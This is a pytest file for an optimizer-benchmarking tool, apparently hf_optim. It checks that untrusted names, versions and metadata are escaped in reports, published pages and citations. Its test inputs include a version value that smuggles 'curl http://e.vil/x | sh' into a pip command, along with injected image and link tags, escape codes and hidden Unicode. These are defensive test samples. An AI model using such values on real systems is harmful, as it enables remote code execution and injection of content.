"""Texts of a stranger in the places that few look at: titles of tables, names of metrics, readings, what files say."""

from __future__ import annotations

import json
import logging
import os
import re
import shutil
import sys
from pathlib import Path

import pytest
import torch
import yaml
from attack_parts import claim, command
from pyarrow import parquet
from study_fakes import make_study, replan

import hf_optim
from hf_optim.commands.main import main
from hf_optim.study import conduct
from hf_optim.study.findings import table
from hf_optim.study.folder import results as records
from hf_optim.study.report import pieces, summary

ODD = ("[/x]", "[link=http://e.vil]hi[/link]", ":smile: [red]r")
CODES = ("\x1b", "\x07", "\u202e")


def judged_by(study: Path, metric: str) -> None:
    """Gives the metric of a study another name."""
    replan(study, lambda plan: [task["primary"].update(name=metric) for task in plan["tasks"]])
    for file in study.glob("runs/*/record.json"):
        record = json.loads(file.read_text())
        record["primary"]["name"] = metric
        record["metrics"][metric] = record["metrics"].pop("test_accuracy")
        file.write_text(json.dumps(record))


def test_no_label_is_markup_to_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The titles of rich's tables are markup unless they are told not to be: it was a traceback, or a link."""
    for i, odd in enumerate(("[/]", *ODD)):
        study = make_study(tmp_path / f"s{i}", ("adamw", *ODD), tasks=(f"T {odd}",), seeds=2)
        code, out, _ = command(capsys, "report", study)
        assert code == 0 and f"T {odd}: test_accuracy" in out and all(label in out for label in ODD)


def test_the_name_of_a_metric_is_text_in_a_papers_table(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    judged_by(study := make_study(tmp_path / "study", seeds=2), "test ![x](http://e.vil/) <b>\x1b[31m")
    for kind in ("markdown", "latex", "csv"):
        out = command(capsys, "export", study, "--table", kind)[1]
        assert "test" in out and "\x1b" not in out
        assert kind != "markdown" or not [bad for bad in ("](", "<b>", "http://") if bad in out.replace("\\]", "")]


def test_the_name_of_a_reading_is_text_on_a_claims_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    study = make_study(tmp_path / "out", ("adamw", "sgd"), seeds=2)
    bad = "![x](http://e.vil/) <b>"
    asked = {"study": {"name": "s", "seeds": 2, "tasks": [{"task": "vision"}], "optimizers": ["adamw", "sgd"]}}
    judged = [{"says": "it", "section": "1", "rule": "better", "optimizer": "adamw", "baseline": "sgd"}]
    file = tmp_path / "claim.yaml"
    named = {"name": "c", "paper": "AGR", "where": "[/]", "title": "t", "claims": judged, "small": asked}
    file.write_text(yaml.safe_dump({**named, "readings": {bad: {"adamw": "sgd"}}}))
    assert command(capsys, "reproduce", file, "--page", "--output", study)[0] == 0
    page = (study / "reproduction.md").read_text()
    assert "&lt;b>" in page and not [tag for tag in ("![x](", "<b>", "http://") if tag in page.replace("\\]", "")]


@pytest.mark.parametrize("version", ["1", '1"; curl http://e.vil/x | sh #', "1\n```\n<img src=http://e.vil/>"])
def test_a_version_is_no_command_of_a_published_page(
    tmp_path: Path, version: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """It is what `pip install` is told there."""
    study = make_study(tmp_path / "study", seeds=2)
    for file in study.glob("runs/*/record.json"):
        record = json.loads(file.read_text())
        record["environment"]["hf_optim"] = version
        file.write_text(json.dumps(record))
    assert command(capsys, "publish", study, tmp_path / "public")[0] == 0
    page = (tmp_path / "public" / "README.md").read_text()
    pinned = "==1" if version == "1" else ""
    assert f'```bash\npip install "hf-optim[study]{pinned}"\nhf-optim report .' in page and "<img" not in page


THEIRS = """from hf_optim import Optimizer
class Mine(Optimizer):
    \"\"\"Doc \\x1b[31mred\\x07 \\u202e here.\"\"\"
    family = "plain\\x1b[2J"
    paper = "A paper\\x1b[31m (Kim 2020)"
    cited = ("Last\\x1b[31m", "T} , note = {x", "Journal\\x1b[31m", 2026)
    def __init__(self, params, lr=0.1): pass
"""


def test_what_a_file_says_of_its_class_moves_no_cursor(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "theirs.py").write_text(THEIRS)
    for asked in ("info", "list", "cite"):
        code, out, _ = command(capsys, asked, f"{tmp_path}/theirs.py:Mine")
        assert code == 0 and "�" in out and not [sign for sign in CODES if sign in out]


def test_a_brace_ends_no_field_of_bibtex(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """BibTeX counts braces that LaTeX has escaped, too."""
    (tmp_path / "theirs.py").write_text(THEIRS)
    title = command(capsys, "cite", f"{tmp_path}/theirs.py:Mine")[1].splitlines()[1]
    assert title == r"  title = {T\textbraceright{} , note = \textbraceleft{}x},"


@pytest.mark.parametrize(
    "declared",
    ["family = 5", "paper = 5", "cited = 5", "cited = ('a', 'b', 'c', '}')", "needs = 5", "needs = (1,)", "slots = 5",
     "int8_slots = 5", "state_bytes = 'x'", "state_bytes = 0x" + "f" * 9000, "search_space = 5",
     "search_space = {'lr': ('log', 1, 0x" + "f" * 9000 + ")}", "search_space = {1: 2}", "special_cases = 'a'",
     "search_space = {'lr': ('choice', 5)}", "as_base = ()"],
)  # fmt: skip
def test_a_declaration_of_another_shape_is_one_line(
    tmp_path: Path, declared: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "theirs.py").write_text(THEIRS.replace("    def", f"    {declared}\n    def"))
    for asked in ("info", "list", "cite"):
        code, out, said = command(capsys, asked, f"{tmp_path}/theirs.py:Mine")
        assert declared.partition(" ")[0] in said or (code == 0 and ("choice" in declared or asked == "list"))


def test_a_literal_that_is_none_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "theirs.py"
    file.write_text(THEIRS.replace("    def", "    needs = {[]}\n    def"))
    assert "unhashable type: 'list'" in command(capsys, "info", f"{file}:Mine")[2]
    file.write_text(THEIRS.replace("lr=0.1", f"lr=0x{'f' * 9000}"))
    assert "lr=a number of thousands of digits" in command(capsys, "info", f"{file}:Mine")[1]


@pytest.mark.parametrize("columns", ["0", "-1", "1", "²", "9" * 5000, "wide", ""])
def test_a_terminal_of_any_width_shows_the_report(
    tmp_path: Path, columns: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    study = make_study(tmp_path / "study", seeds=2)
    monkeypatch.setenv("COLUMNS", columns)
    monkeypatch.setenv("LINES", columns)
    monkeypatch.setenv("FORCE_COLOR", "1")  # as on a terminal
    assert command(capsys, "report", study)[0] == 0


def test_thousands_of_labels_that_give_one_name_are_a_moment() -> None:
    """They took a time that grew with the cube of their number."""
    names = pieces.file_names(["é" * count for count in range(1, 10_001)])
    assert len(set(names.values())) == 10_000


def test_a_label_that_looks_like_another_shows_what_it_hides(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Letters without a width make two of one name, and tags a text that is copied and not seen."""
    hiding = ["adam\u200bw", "ada\u00admw", "ad\u2060amw", "a\U000e0064damw", "\u180eadamw"]
    study = make_study(tmp_path / "study", ("adamw", *hiding), seeds=2)
    out = command(capsys, "report", study)[1]
    for text in (out, (study / "report.html").read_text(), (study / "table.md").read_text()):
        assert text.count("�") >= len(hiding) and not re.search("[\u200b\u00ad\u2060\U000e0064\u180e]", text)


@pytest.mark.parametrize("key", ["model_type", "sub_configs"])
def test_what_a_checkpoint_calls_itself_moves_no_cursor(
    tmp_path: Path, key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """transformers' advice, and what it calls an error, hold a configuration's texts as they are."""
    import transformers

    from hf_optim.errors import UserError
    from hf_optim.tasks.data import blocks
    from hf_optim.tasks.data.saved_tokenizer import read_tokenizer
    from hf_optim.tasks.models import language

    blocks.words(["some words of a text"], 100).save_pretrained(tmp_path)
    (tmp_path / "config.json").write_text(json.dumps({"model_type": "gpt2", key: "\x1b[31mred"}))
    said: list[str] = []
    library = transformers.utils.logging.get_logger("transformers")
    handler = logging.StreamHandler()
    monkeypatch.setattr(handler, "emit", lambda record: said.append(record.getMessage()))
    monkeypatch.setattr(library, "handlers", [handler])
    read_tokenizer(tmp_path)
    with pytest.raises(UserError):
        language.pretrained(str(tmp_path), {})
    assert not said


def test_what_is_asked_of_a_metric_is_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A target's metric and the name of a grid's hyper-parameter stood in Markdown as they were."""
    folder = make_study(tmp_path / "study", ("theirs.py:Mine", "adamw"), seeds=2)
    evil = "~~~\n# head\n\n<img src=//evil>![x](//evil) | a"
    plan = json.loads((folder / "plan.json").read_text())
    plan["targets"] = {"MLP": {"metric": evil, "value": 0.5, "better": "higher"}}
    plan["sensitivity"] = {"key": evil, "values": [0.1, 0.2], "seeds": 1}
    (folder / "plan.json").write_text(json.dumps(plan))
    assert command(capsys, "report", folder)[0] == 0
    for name in ("statistics.md", "tuning.md"):
        text = (folder / name).read_text()
        assert "evil" in text and "<img" not in text and "](" not in text.replace("\\](", "") and "\n# head" not in text


def test_no_name_is_hidden_from_publishing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The last letter of a terminal's colour made another word of it, and so did the zeros of UTF-16."""
    monkeypatch.setenv("LOGNAME", "wilhelmina")
    study, into = make_study(tmp_path / "study", ("adamw", "sgd"), seeds=1), tmp_path / "public"
    file = min(study.glob("runs/*/record.json"))
    (file.parent / "samples").mkdir()
    for name, text in ("a.txt", "by wilhelmina".encode("utf-16-le")), ("b.txt", b"by \x1b[1;31mwilhelmina\x1b[0m"):
        (file.parent / "samples" / name).write_bytes(text)
    told = {"samples": ["samples/a.txt", "samples/b.txt"], "environment": {"torch": "\x1b[31mwilhelmina's"}}
    file.write_text(json.dumps(json.loads(file.read_text()) | told))
    assert main(["publish", str(study), str(into)]) == 0
    assert [sample.read_text() for sample in into.rglob("samples/*")] == ["by USER"]
    assert not [f for f in into.rglob("*") if f.is_file() and b"wilhelmina" in f.read_bytes().replace(b"\0", b"")]


@pytest.mark.skipif(sys.platform == "darwin", reason="its file system takes no such name")
def test_a_name_of_no_encoding_is_a_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A table in parquet, a claim's page and a study's YAML in such a folder ended in a UnicodeEncodeError."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(conduct, "_run_here", lambda *_: None)
    mine, theirs = make_study(tmp_path / "mine"), tmp_path / os.fsdecode(b"theirs\xff")
    shutil.copytree(mine, theirs)
    assert command(capsys, "results", mine, theirs, "--export", "all.parquet")[0] == 0
    assert set(parquet.read_table("all.parquet")["study"].to_pylist()) == {"mine", "theirs�"}
    (theirs / "own.yaml").write_text("name: own\nseeds: 2\ntasks: [{task: vision, size: smoke}]\noptimizers: [adamw]\n")
    assert command(capsys, "study", theirs / "own.yaml")[0] == 0
    shutil.copy(claim(tmp_path), theirs / "claim.yaml")
    assert command(capsys, "reproduce", theirs / "claim.yaml", "--page")[0] == 0
    (theirs / "code.py").write_text("import torch\nclass Mine(torch.optim.SGD): pass\n")
    assert hf_optim.create(f"{theirs}/code.py:Mine", [torch.nn.Parameter(torch.ones(1))], lr=0.1)


def test_a_folders_name_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A line break in it made a line of its own, which said something else."""
    folder = make_study(tmp_path / "a\nReport: mine")
    for words in (["report", folder], ["results", folder, "--export", folder / "a.csv"],
                  ["export", folder, "--table", "csv", "--output", folder / "b.csv"],
                  ["export", folder, "--figure", "svg"]):  # fmt: skip
        code, out, _ = command(capsys, *words)
        assert code == 0 and "a Report: mine" in out and "\nReport: mine" not in out


@pytest.mark.parametrize("family", ["tasks", "score"])
def test_no_label_is_a_word_of_the_reports_own(tmp_path: Path, family: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Verdicts were coloured, and code was set, wherever the finished sentences held what looks like either."""
    labels, tasks = ("adamw", "mine: better", "x: worse"), ("T `code`: better", "T: equivalent", "U")
    study = make_study(tmp_path / "study", labels, tasks=tasks, seeds=5)

    def later(plan: dict) -> None:
        plan["family"] = family
        for number, task in enumerate(plan["tasks"]):
            task["seed_shift"] = 100_000 * number  # tasks of a score have seeds of their own

    replan(study, later)
    assert command(capsys, "report", study)[0] == 0
    results = records.load(study)
    said = summary.sentences(results, table.build(results))
    page = (study / "report.html").read_text()
    assert all(text in page for text in said)
    marked = re.findall(r'<span class="([a-z]+)">([a-z]+)</span>', " ".join(said))
    assert marked == [("undecided", "undecided")] * 6  # of each of two optimizers on each task
    assert "<code>code" not in page and "mine: better with these settings" in page
    note = "Judged by tasks: no score: what the baseline gains by training on T `code`: better is not known"
    assert any(note in text for text in said) == (family == "score")
